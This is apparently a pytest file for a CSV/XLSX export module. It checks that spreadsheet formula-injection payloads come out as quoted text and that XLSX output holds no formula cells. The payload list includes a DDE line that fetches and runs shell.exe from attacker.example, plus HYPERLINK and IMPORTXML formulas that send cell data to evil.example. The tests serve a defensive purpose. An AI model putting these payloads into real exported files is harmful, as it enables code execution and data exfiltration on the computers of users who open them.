"""The one CSV/XLSX writer (services/tabular.py): OWASP CSV-injection payloads come out as
quoted text, numbers stay numbers, no XLSX cell is ever a formula, files read back exactly."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import load_workbook

from dpa_panel.services import tabular
from dpa_panel.services.tabular import neutralise

#: OWASP's CSV-injection examples and the usual variants (DDE, HYPERLINK exfiltration,
#: arithmetic, leading tab / CR / LF / spaces, full-width signs, chained formulas).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "=2+3",
    "+2+3",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1;=2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\uff1d1+1",
    "-",
    "+77011234567",
    "-5",
]
HARMLESS = ["Ахметова", "Әлия-Нұр", "a=b", "1+1", "(=1)", "", "'already quoted", "x@y.kz"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_quoted_and_kept(payload):
    assert tabular.needs_neutralising(payload)
    assert neutralise(payload) == "'" + payload
    assert neutralise(neutralise(payload)) == "'" + payload  # quoting twice changes nothing


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text):
    assert neutralise(text) == text


def test_numbers_by_type_stay_numbers_and_other_values_become_text():
    assert neutralise(-5) == -5 and neutralise(Decimal("-2.50")) == Decimal("-2.50")
    assert neutralise(-0.5) == -0.5 and neutralise(True) is True
    assert neutralise(float("-inf")) == "'-inf" and neutralise(float("nan")) == "nan"
    assert neutralise(None) == ""
    assert neutralise(date(2026, 1, 2)) == "2026-01-02"
    assert neutralise(datetime(2026, 1, 2, 3, 4, tzinfo=UTC)) == "2026-01-02T03:04:00+00:00"

    class Odd:
        def __str__(self) -> str:
            return "=1+1"

    assert neutralise(Odd()) == "'=1+1"


def _table():
    header = ["text", "number", "=header"]
    rows = [[p, -i, p] for i, p in enumerate(PAYLOADS)] + [["#N/A", 7, "#DIV/0!"]]
    return header, rows


def test_csv_is_bom_crlf_header_first_and_reads_back_quoted():
    header, rows = _table()
    data = tabular.csv_bytes(header, rows)
    assert data.startswith("\ufeff".encode()) and data.count(b"\r\n") >= len(rows) + 1
    text = data.decode("utf-8-sig")
    assert text.startswith("text,number,'=header\r\n")
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == ["text", "number", "'=header"]
    for values, payload, i in zip(parsed[1:], PAYLOADS, range(len(PAYLOADS)), strict=False):
        assert values == ["'" + payload, str(-i), "'" + payload]
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert frame["text"].tolist()[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    # Text columns: nothing a spreadsheet would evaluate. (The number column holds "-1"
    # etc.: a number typed as one, which a spreadsheet reads as that number.)
    for cell in [*frame["text"], *frame["'=header"]]:
        assert not tabular.needs_neutralising(cell), cell


def test_csv_chunks_stream_in_batches_with_one_bom():
    chunks = list(tabular.csv_chunks(["a"], ([f"={n}"] for n in range(5)), batch=2))
    assert len(chunks) == 4  # header, 2 + 2 rows, the last row
    data = b"".join(chunks)
    assert data.count("\ufeff".encode()) == 1
    assert data.decode("utf-8-sig").split("\r\n")[:3] == ["a", "'=0", "'=1"]


def test_xlsx_has_no_formula_cell_and_text_is_text():
    header, rows = _table()
    data = tabular.xlsx_bytes(header, rows, sheet="t")
    ws = load_workbook(io.BytesIO(data))["t"]
    assert ws.freeze_panes == "A2" and ws["A1"].font.b and ws["C1"].value == "'=header"
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    for row, payload in zip(ws.iter_rows(min_row=2), PAYLOADS, strict=False):
        assert row[0].value == "'" + payload and row[0].data_type == "s"
        assert row[1].data_type == "n"
    last = list(ws.iter_rows(min_row=ws.max_row))[0]
    assert [c.value for c in last] == ["#N/A", 7, "#DIV/0!"]
    assert [c.data_type for c in last] == ["s", "n", "s"]  # not error cells
    frame = pd.read_excel(io.BytesIO(data), dtype=object, keep_default_na=False)
    assert frame["text"].tolist()[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert frame["number"].tolist()[:3] == [0, -1, -2]


def test_reproducible_xlsx_gives_the_same_bytes():
    moment = datetime(2026, 11, 20, 8, tzinfo=UTC)

    def build() -> bytes:
        book = tabular.XlsxBook(title="DR-1", moment=moment)
        book.sheet("package", ["no", "surname"]).rows([["1", "=2+3"]])
        return book.to_bytes(reproducible=True)

    assert build() == build()


def test_legacy_v1_writer_is_the_old_unquoted_layout():
    """Version 1 exists only to rebuild packages sent before quoting; it does not quote."""
    moment = datetime(2026, 11, 20, 8, tzinfo=UTC)
    assert tabular.legacy_v1_csv_bytes(["a"], [["=2+3"]]).decode("utf-8-sig") == "a\r\n=2+3\r\n"
    ws = load_workbook(io.BytesIO(tabular.legacy_v1_xlsx_bytes(["a"], [["=2+3"]], moment, "t")))
    assert ws.active["A2"].data_type == "f"  # the very hole issue 15 reported
